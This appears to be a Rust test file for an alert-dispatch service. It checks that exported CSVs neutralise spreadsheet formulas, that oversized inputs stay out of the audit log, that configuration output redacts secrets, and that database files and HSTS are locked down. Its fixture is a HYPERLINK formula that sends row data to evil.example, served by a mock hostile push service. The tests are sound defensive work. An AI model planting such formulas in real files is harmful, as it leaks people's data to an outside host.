//! Operations (issue 18, items 10, 16, 19, 20 and 21): what an outsider slips into the files
//! staff open and into the log nobody may clean, the secrets a configuration dump shows on a
//! shared terminal, who may read the database on disk, and whether browsers keep to HTTPS.

use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use dispatcher::domain::roles::Role;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::lifecycle::{approve_and_issue, submitted};
use crate::on_both;
use crate::signup::{created, sign_up};
use crate::support::{Auth, Backend, Session, TestApp, content, spawn, spawn_with};

/// What the attacker's own push service answers in `Location` to a push on `/push/formula`:
/// a spreadsheet formula that sends the row next to it away when the export is opened.
const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?d="&C2,"Open the report")"#;

/// A push service of the attacker's on loopback: takes every push and answers `201 Created`
/// with the `Location` the attacker chose (a formula, or for `/push/long` 5,000 characters).
async fn hostile_push_service() -> String {
    let handler = |uri: axum::http::Uri| async move {
        let location = if uri.path().ends_with("/long") { "x".repeat(5000) } else { FORMULA.to_owned() };
        (axum::http::StatusCode::CREATED, [(axum::http::header::LOCATION, location)])
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        let _ = axum::serve(listener, axum::Router::new().fallback(handler)).await;
    });
    base
}

/// A browser's push subscription on `endpoint`, with a real P-256 key so that pushes to it
/// can be encrypted and sent.
pub(super) fn push_sign_up(endpoint: String) -> Value {
    let rng = ring::rand::SystemRandom::new();
    let key = ring::agreement::EphemeralPrivateKey::generate(&ring::agreement::ECDH_P256, &rng).unwrap();
    let p256dh = URL_SAFE_NO_PAD.encode(key.compute_public_key().unwrap().as_ref());
    json!({
        "channel": "push",
        "subscription": {
            "endpoint": endpoint,
            "expirationTime": null,
            "keys": { "p256dh": p256dh, "auth": URL_SAFE_NO_PAD.encode([7u8; 16]) }
        },
        "places": [{ "lat": 48.15, "lon": 17.1 }],
        "languages": ["sk"]
    })
}

/// Waits until `n` deliveries of the alert on `channel` are sent (at most 20 s).
async fn sent(t: &TestApp, who: &Session, id: i64, channel: &str, n: i64) {
    for _ in 0..400 {
        let v = t.get(&format!("/api/v1/alerts/{id}/deliveries"), Auth::Session(who)).await.json();
        if v["channels"][channel]["sent"].as_i64() == Some(n) {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("{n} {channel} deliveries were not sent within 20 s");
}

// Item 10: a resident signs up with their own push service, which answers every push with a
// formula (or a huge id) as its message id; staff export the deliveries and open the CSV.
on_both!(a_push_service_cannot_plant_formulas_in_the_export, |t: TestApp| async move {
    let push = hostile_push_service().await;
    let (formula_sub, _) = created(&sign_up(&t, push_sign_up(format!("{push}/push/formula"))).await);
    let (long_sub, _) = created(&sign_up(&t, push_sign_up(format!("{push}/push/long"))).await);
    let author = t.user("ana", &[Role::Author]).await;
    let approver = t.user("boris", &[Role::Approver]).await;
    let live = approve_and_issue(&t, &approver, &submitted(&t, &author, content("Actual")).await).await;
    let id = live["id"].as_i64().unwrap();
    let reader = t.user("aud", &[Role::Auditor]).await;
    sent(&t, &reader, id, "push", 2).await;

    let list = t.get(&format!("/api/v1/alerts/{id}/deliveries/list?channel=push"), Auth::Session(&reader)).await;
    let rows = list.json();
    let of = |sub: i64| rows.as_array().unwrap().iter().find(|d| d["recipientId"] == sub).cloned().unwrap();
    assert_eq!(of(formula_sub)["providerId"], FORMULA, "a short printable id is kept as it came");
    assert_eq!(of(long_sub)["providerId"], Value::Null, "an id of 5,000 characters is not stored: {}", list.text());

    let csv = t.get(&format!("/api/v1/alerts/{id}/deliveries/export"), Auth::Session(&reader)).await.text();
    let cell = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
    assert!(csv.contains(&cell), "the formula is exported as text, quoted: {csv}");
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "no cell starts a formula: {csv}");
    assert!(!csv.contains(&"x".repeat(501)), "the huge id went nowhere");
    assert_eq!(csv.lines().count(), 3, "one line a delivery: {csv}");
});

/// The audit rows of `action`, read through the API by an auditor.
async fn audited(t: &TestApp, auditor: &Session, action: &str) -> Vec<Value> {
    let r = t.get(&format!("/api/v1/audit?action={action}&limit=10"), Auth::Session(auditor)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    r.json().as_array().unwrap().clone()
}

/// Posts an outside alert with this identifier, as a token.
async fn post_identifier(t: &TestApp, token: &str, identifier: &str) -> crate::support::Resp {
    let xml = crate::adversarial::outside(identifier, "roc@region.example", "Alert", None);
    let body = crate::support::Body::Raw("application/cap+xml", xml.into_bytes());
    t.call(reqwest::Method::POST, "/api/v1/cap", Auth::Token(token), body).await
}

/// The most an audit row's text fields may take once bounded: 200 characters and the marker.
const BOUNDED_TEXT: usize = 260;
/// The most its details may take.
const BOUNDED_DETAILS: usize = 16 * 1024;

// Item 16: an anonymous caller signs in with a username of 1.5 MB, then a token holder posts
// CAP whose identifier takes 2,400 bytes (about the most PostgreSQL's index of identifiers
// takes); the append-only audit log keeps neither whole.
on_both!(the_audit_log_keeps_no_megabyte_an_outsider_sends, |t: TestApp| async move {
    let auditor = t.user("audra", &[Role::Admin]).await;
    let username = "a".repeat(1_500_000);
    let r = t.post("/api/v1/session", Auth::None, json!({ "username": username, "password": "a guess" })).await;
    assert!(r.status.is_client_error(), "{}", r.status);
    let rows = audited(&t, &auditor, "session.login_failed").await;
    assert_eq!(rows.len(), 1, "the failed attempt is still audited");
    let target = rows[0]["target"].as_str().unwrap();
    assert!(target.starts_with("user:aaaa") && target.chars().count() <= BOUNDED_TEXT, "{} chars", target.len());

    let token = t.token("roc", Role::Author, &["cap"]).await;
    let r = post_identifier(&t, &token, &"I".repeat(2400)).await;
    // An identifier that long is refused outright (it failed on PostgreSQL's index before),
    // naming the field and the limit; nothing is stored or audited as ingested.
    assert_eq!(r.status, reqwest::StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert_eq!(r.json()["field"], "/alert/identifier", "{}", r.text());
    assert!(r.text().contains("at most 500"), "{}", r.text());
    assert!(audited(&t, &auditor, "cap.ingest").await.is_empty());
    // One within the limit is stored, its audit details bounded and still JSON.
    let identifier = "I".repeat(500);
    let r = post_identifier(&t, &token, &identifier).await;
    assert!(r.status.is_success(), "{}", r.text());
    let rows = audited(&t, &auditor, "cap.ingest").await;
    let details = rows[0]["details"].as_str().unwrap();
    assert!(details.len() <= BOUNDED_DETAILS, "details of {} bytes", details.len());
    let details: Value = serde_json::from_str(details).expect("bounded details are still JSON");
    assert_eq!(details["identifier"], identifier.as_str(), "{details}");
    assert_eq!(details["sender"], "roc@region.example", "short fields are kept whole");
    let chain = t.get("/api/v1/audit/verify", Auth::Session(&auditor)).await.json();
    assert_eq!(chain["intact"], true, "{chain}");
});

// Item 19: an operator shows the configuration on a shared screen (or pastes it into a support
// ticket); the database password, the SMS gateway's credentials and tokens in URLs stay out.
#[test]
fn the_configuration_shown_keeps_secrets_out() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("tocsin.toml");
    let toml = r#"
[channels.sms]
enabled = true
provider = "http"

[channels.sms.http]
url = "https://levice:GW-PASSWORD-1@sms.example.org/send?api_key=GW-KEY-2&account=levice"
headers = ["X-Api-Key: GW-HEADER-3", "X-Tenant: levice-4"]
body_template = '{"api_key":"GW-BODY-7","to":"{to}","text":"{text}"}'
from = "Levice"

[[feeds.subscriptions]]
name = "SHMU"
url = "https://feeds.example.org/cap.atom?access_token=FEED-TOKEN-5&lang=sk"
action = "draft"
"#;
    std::fs::write(&file, toml).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_tocsin"))
        .arg("config")
        .arg("--config")
        .arg(&file)
        .env("TOCSIN_DATABASE_URL", "postgres://tocsin:DB-PASSWORD-6@db.example.org:5432/tocsin?sslmode=require")
        .env("TOCSIN_SECURITY_SECRET_KEY", dispatcher::domain::crypto::SecretKey::generate_base64())
        .output()
        .unwrap();
    let shown = crate::cli_admin::out(&o);
    assert!(o.status.success(), "{shown}");
    for secret in ["GW-PASSWORD-1", "GW-KEY-2", "GW-HEADER-3", "levice-4", "FEED-TOKEN-5", "DB-PASSWORD-6", "GW-BODY-7"]
    {
        assert!(!shown.contains(secret), "{secret} is shown: {shown}");
    }
    // What an operator checks is still there.
    for kept in [
        "postgres://tocsin:[redacted]@db.example.org:5432/tocsin?sslmode=require",
        "https://levice:[redacted]@sms.example.org/send?api_key=[redacted]&account=levice",
        "X-Api-Key: [redacted]",
        "https://feeds.example.org/cap.atom?access_token=[redacted]&lang=sk",
    ] {
        assert!(shown.contains(kept), "{kept} is not shown: {shown}");
    }
}

// Item 20: another account on the host reads the SQLite database (password hashes, residents'
// phone numbers) or its write-ahead log, which hold the latest writes.
#[cfg(unix)]
#[tokio::test]
async fn the_sqlite_files_are_private_to_their_owner() {
    use std::os::unix::fs::PermissionsExt as _;
    let Some(t) = spawn(Backend::Sqlite).await else { return };
    t.user("ana", &[Role::Author]).await;
    let url = t.app.settings.database.url.expose().to_owned();
    let db = url.strip_prefix("sqlite://").unwrap();
    for suffix in ["", "-wal", "-shm"] {
        let path = format!("{db}{suffix}");
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{path} is {mode:o}");
    }
}

// Item 21: someone on the café's network strips a returning browser's visit down to HTTP.
// Served over HTTPS, Tocsin tells browsers to use nothing else; served plain (behind a proxy,
// which sets its own), it says nothing it cannot keep.
#[tokio::test]
async fn https_tells_browsers_to_keep_to_it() {
    let dir = tempfile::tempdir().unwrap();
    let Some((ca, cert, key)) = crate::cascade::tls_files(dir.path()) else { return };
    let tls = |s: &mut dispatcher::config::Settings| {
        s.server.tls_certificate_file = cert.display().to_string();
        s.server.tls_key_file = key.display().to_string();
    };
    let Some(t) = spawn_with(Backend::Sqlite, tls).await else { return };
    let client = reqwest::Client::builder()
        .tls_certs_only([reqwest::Certificate::from_pem(&std::fs::read(&ca).unwrap()).unwrap()])
        .build()
        .unwrap();
    let https = t.base.replace("http://", "https://");
    for path in ["/healthz", "/api/v1/alerts", "/nowhere"] {
        let r = client.get(format!("{https}{path}")).send().await.unwrap();
        let hsts = r.headers().get("strict-transport-security").map(|v| v.to_str().unwrap().to_owned());
        assert_eq!(hsts.as_deref(), Some("max-age=31536000"), "{path}: {}", r.status());
    }
    let Some(plain) = spawn(Backend::Sqlite).await else { return };
    let r = plain.get("/healthz", Auth::None).await;
    assert_eq!((r.status, r.header("strict-transport-security")), (StatusCode::OK, String::new()));
}
